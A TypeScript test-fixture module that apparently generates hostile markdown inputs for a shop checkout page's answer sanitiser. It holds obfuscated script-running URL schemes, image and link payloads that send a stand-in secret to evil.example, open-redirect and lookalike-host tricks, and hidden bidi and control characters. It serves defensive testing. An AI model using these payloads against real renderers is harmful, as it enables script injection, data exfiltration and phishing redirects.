/** Where the answers are shown, and what its owner allows. */
export const SHOP = {
  baseUrl: 'https://shop.example/checkout',
  linkHosts: ['docs.shop.example'],
  imagePrefixes: ['https://img.shop.example/answers/'],
};

/** What must not reach another host. */
export const SECRET = 'NDI0MjQyNDI0MjQyNDI0Mg4242';

/** Addresses that run or open something, or show what a stranger wrote as if it were the page. */
const SCHEMES = [
  'javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'file:///etc/passwd',
  'blob:https://shop.example/1f3a',
  'filesystem:https://shop.example/temporary/a.html',
  'view-source:https://shop.example/',
  'jar:https://evil.example/a.jar!/a.html',
  'feed:javascript:alert(1)',
  'intent://scan/#Intent;scheme=zxing;end',
  'livescript:alert(1)',
  'ms-msdt:/id',
  'about:blank',
] as const;

const at = (url: string, index: number, insert: string) => url.slice(0, index) + insert + url.slice(index);
const colon = (url: string, by: string) => url.replace(':', by);
const every = (url: string, write: (character: string) => string) => [...url].map(write).join('');
const scheme = (url: string, change: (scheme: string) => string) =>
  change(url.slice(0, url.indexOf(':'))) + url.slice(url.indexOf(':'));
const code = (character: string) => character.codePointAt(0) ?? 0;

/** Ways to write an address so that a filter of words does not see it. */
const TRICKS: readonly ((url: string) => string)[] = [
  (url) => url,
  (url) => url.toUpperCase(),
  (url) => scheme(url, (name) => every(name, (each) => (code(each) % 2 ? each.toUpperCase() : each))),
  (url) => ` ${url}`,
  (url) => `\t${url}`,
  (url) => `\n${url}`,
  (url) => `\u0001${url}`,
  (url) => `\u001f${url}`,
  (url) => `\u00a0${url}`,
  (url) => `\u2028${url}`,
  (url) => `\ufeff${url}`,
  (url) => `\u202e${url}`,
  (url) => at(url, 2, '\t'),
  (url) => at(url, 2, '\n'),
  (url) => at(url, 2, '\r\n'),
  (url) => at(url, 2, '\u0000'),
  (url) => at(url, 2, '\u00ad'),
  (url) => at(url, 2, '\u200b'),
  (url) => at(url, 2, '\u{e0041}'),
  (url) => at(url, 2, '&#9;'),
  (url) => at(url, 2, '&#x0A;'),
  (url) => at(url, 2, '&Tab;'),
  (url) => at(url, 2, '&NewLine;'),
  (url) => at(url, 2, '&#0;'),
  (url) => at(url, 2, '&shy;'),
  (url) => at(url, 2, '\\'),
  (url) => at(url, 2, '%0a'),
  (url) => colon(url, '&#58;'),
  (url) => colon(url, '&#x3a;'),
  (url) => colon(url, '&#0000058;'),
  (url) => colon(url, '&#58'),
  (url) => colon(url, '&colon;'),
  (url) => colon(url, '\\:'),
  (url) => colon(url, '%3a'),
  (url) => colon(url, '\uff1a'),
  (url) => scheme(url, (name) => every(name, (each) => `&#${code(each)};`)),
  (url) => scheme(url, (name) => every(name, (each) => `&#x${code(each).toString(16)};`)),
  (url) => scheme(url, (name) => every(name, (each) => `%${code(each).toString(16)}`)),
  (url) =>
    scheme(url, (name) =>
      every(name, (each) => String.fromCodePoint(code(each) > 96 ? code(each) + 0xfee0 : code(each))),
    ),
];

/** Ways to write a link or an image. */
const SYNTAXES: readonly ((url: string) => string)[] = [
  (url) => `[a](${url})`,
  (url) => `[a](<${url}> "b")`,
  (url) => `[a]\n\n[a]: ${url}`,
  (url) => `[b]: <${url}> 'c'\n\n**[a][b]**`,
  (url) => `![a](${url})`,
  (url) => `<${url}>`,
];

/** Makes every obfuscated scheme in every syntax: 14 schemes, 39 tricks, 6 syntaxes. */
export const obfuscatedSchemes = (): string[] =>
  SCHEMES.flatMap((url) => TRICKS.flatMap((trick) => SYNTAXES.map((syntax) => syntax(trick(url)))));

/** Ways to carry a secret to another host, by an image that loads or a link that is followed. */
export const exfiltrations = (): string[] => [
  ...[
    `https://evil.example/p.png?q=${SECRET}`,
    `https://evil.example/${SECRET}.png`,
    `//evil.example/p.png?q=${SECRET}`,
    `http://img.shop.example/answers/a.png?q=${SECRET}`,
    `https://img.shop.example/answers/../p.png?q=${SECRET}`,
    `https://img.shop.example/answers/%2e%2e/p.png?q=${SECRET}`,
    `https://img.shop.example/answers/.%2E/p.png?q=${SECRET}`,
    `https://img.shop.example/answers\\..\\p.png?q=${SECRET}`,
    `https://img.shop.example/ANSWERS/p.png?q=${SECRET}`,
    `https://img.shop.example/answersX/p.png?q=${SECRET}`,
    `https://img.shop.example.evil.example/answers/p.png?q=${SECRET}`,
    `https://img.shop.example@evil.example/answers/p.png?q=${SECRET}`,
    `https://img.shop.example:8443/answers/p.png?q=${SECRET}`,
    `https:evil.example/answers/p.png?q=${SECRET}`,
    `https:\\\\evil.example\\p.png?q=${SECRET}`,
    `/\\evil.example/p.png?q=${SECRET}`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
    `data:image/png;base64,${SECRET}`,
    'blob:https://shop.example/1f3a',
    'javascript:alert(1)',
  ].flatMap((url) => [
    `![a](${url})`,
    `![a](<${url}> "t")`,
    `![a][b]\n\n[b]: <${url}>`,
    `![a][]\n\n[a]: ${url}`,
    `![a]\n\n[A]: ${url}`,
    `[b]: <${url}>\n\n| a |\n| - |\n| ![x][b] |`,
    `- [![a](<${url}>)](https://shop.example/)`,
    `# ![*a* ![b](<${url}>)](<${url}>)`,
    `![a](<${url}`,
    `<img src="${url}" srcset="${url} 2x">`,
  ]),
  ...[
    `q=${SECRET}`,
    `a=1&q=${SECRET}&b=2`,
    `${SECRET}`,
    'q=4f3c9a1be07d52886fa1c3d94f3c9a1b',
    `q=${'your words here '.repeat(14).trim().replaceAll(' ', '+')}`,
  ].flatMap((query) => [
    `[a](https://evil.example/?${query})`,
    `[a](<https://evil.example/c?${query}#d> "t")`,
    `[a][b]\n\n[b]: //evil.example/?${query}`,
    `[b]: https://evil.example?${query}\n\n[b]`,
    `<https://evil.example/?${query}>`,
    `**[a](https://evil.example:444/?${query})**`,
  ]),
];

/** Addresses that look like the shop's own and lead elsewhere, each as link, reference, autolink and image. */
export const redirections = (): string[] =>
  [
    '//evil.example',
    '///evil.example',
    '////evil.example/a',
    '/\\evil.example',
    '\\\\evil.example',
    '\\/evil.example',
    '/\t/evil.example',
    '/&#9;/evil.example',
    '/&#10;/evil.example',
    '&sol;&sol;evil.example',
    '&#x2f;&#x2f;evil.example',
    'https:evil.example',
    'https:/evil.example',
    'https:///evil.example',
    'https:\\\\evil.example',
    'HTTPS://EVIL.EXAMPLE',
    'https://evil.example:443',
    'https://evil.example.',
    'https://shop.example@evil.example',
    'https://shop.example:pay@evil.example',
    'https://shop.example%40evil.example',
    'https://shop.example%2f@evil.example',
    'https://shop.example&#64;evil.example',
    'https://shop.example\\@evil.example',
    'https://shop.example.evil.example',
    'https://evil.example/shop.example',
    'https://evil.example?shop.example',
    'https://evil.example#shop.example',
    'https://evil.example\\.shop.example',
    'https://evil.example&num;.shop.example',
    'https://evil\u3002example',
    'https://evil%E3%80%82example',
    'https://\u24d4vil.example',
    'https://sh\u043ep.example',
    'https://shop\u200b.example.evil.example',
    'https://shop.ex\u00adample.evil.example',
    'https://xn--shp-1ed.example',
    'https://\u202eelpmaxe.pohs',
    'https://2130706433/',
    'https://0x7f.1/',
    'https://[::ffff:127.0.0.1]/',
    'mailto:a@evil.example@shop.example',
    'tel:+1&#10;javascript:alert(1)',
  ].flatMap((url) => [`[pay](${url})`, `[pay](<${url}>)`, `[pay]\n\n[pay]: <${url}>`, `<${url}>`, `![pay](<${url}>)`]);

/** Characters that turn text around, hide it, or carry words that nobody sees. */
export const HIDDEN = /[\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]|(?![\t\n\r])\p{Cc}/u;

/** Text with hidden characters in every kind of place, as characters and as references. */
export const hiddenTexts = (): string[] =>
  ['\u202e', '\u202a', '\u2066', '\u2069', '\u{e0001}', '\u{e0041}', '\u0000', '\u0008', '\u001b'].flatMap((hidden) => {
    const [point = 0] = [...hidden].map(code);
    return [hidden, `&#${point};`, `&#x${point.toString(16)};`].flatMap((written) => [
      `Pay ${written}now`,
      `**a${written}b**`,
      `\`a${written}b\``,
      `[a${written}b](https://shop.example/ "c${written}d")`,
      `![a${written}b](/a.png)`,
      `| a${written} |\n| - |\n| ${written}b |`,
      `\`\`\`\na${written}b\n\`\`\``,
      `    a${written}b`,
    ]);
  });
